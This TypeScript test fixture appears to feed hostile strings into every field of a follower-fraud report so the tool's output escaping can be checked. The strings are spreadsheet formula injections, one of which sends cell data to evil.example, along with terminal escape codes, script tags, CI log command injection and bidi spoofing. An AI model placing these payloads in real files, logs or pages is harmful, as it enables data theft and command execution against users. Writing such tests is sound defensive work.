import type { AccountReport, Diagnostic, Report } from '../../src/model/report.ts'
import { account, evidence, report } from './sample.ts'

/** What strangers may put into a name, and what would obey it: a terminal, a spreadsheet, a page, a build log, a reader's eye. */
export const ATTACKS = {
  formula: '=HYPERLINK("https://evil.example?"&A1,"x")',
  plus: "+1+cmd|'/c calc'!A1",
  minus: '-2+3+cmd',
  at: '@SUM(1+1)*cmd',
  tab: '\t=1+1',
  terminal: '\x1b[2J\x1b]0;owned\x07\x9b31m\x1b]8;;https://evil.example\x07link\x1b]8;;\x07',
  script: '</script><script>alert(1)</script><img src=x onerror=alert(1)>',
  command: '::error file=x::owned\r\n::error::owned\n%0A::error::owned%0D ##[error]owned',
  bidi: 'gpj.\u202egnp\u2066\u200f',
  xml: '\u0000\u0001\u000b\ufffe\uffff\ud800 ]]> <!-- &lt; "quoted"',
  markdown:
    '`code` | ![i](https://evil.example/i.png) [l](https://evil.example) <b>x</b> @everyone #1 https://evil.example www.evil.example ~~x~~\n\n# big',
  long: `${'x'.repeat(10_000)}`,
} as const

const attacked = (attack: string): AccountReport =>
  account({
    ...{
      handle: attack,
      platform: attack,
      name: attack,
      creator: attack,
      niche: attack,
      country: attack,
      website: attack,
      currency: attack,
    },
    ...{ peerGroup: attack, engagementFormula: attack, expectedEngagementFormula: attack },
    purchasedFollowers: 'possible',
    flagged: true,
    reasons: [attack, attack],
    evidence: [{ ...evidence, signal: attack, unit: attack, missing: [attack], innocent: [attack] }],
    source: { file: attack, line: 3 },
  })

const diagnostic = (attack: string): Diagnostic => ({
  code: 'bad-number',
  severity: 'error',
  message: attack,
  file: attack,
  line: 7,
  column: 2,
  field: attack,
  value: attack,
})

/** Every attack in every field of accounts, evidence, inputs, diagnostics and the policy. */
export const hostile = (attacks: readonly string[] = Object.values(ATTACKS)): Report =>
  report(attacks.map(attacked), {
    diagnostics: attacks.map(diagnostic),
    inputs: attacks.map(attack => ({
      ...{ path: attack, kind: 'accounts', preset: null, encoding: 'utf-8', delimiter: ',', rows: 1, accepted: 1, rejected: 0 },
      columns: { [attack]: attack },
      unusedColumns: [attack],
    })) as Report['inputs'],
    policy: {
      passed: false,
      assertions: attacks.map(attack => ({
        ...{ name: 'verdict', level: 'error', operator: 'milder than', expected: 'possible', actual: 'possible', passed: false },
        handle: attack,
        platform: attack,
      })) as Report['policy']['assertions'],
    },
  })
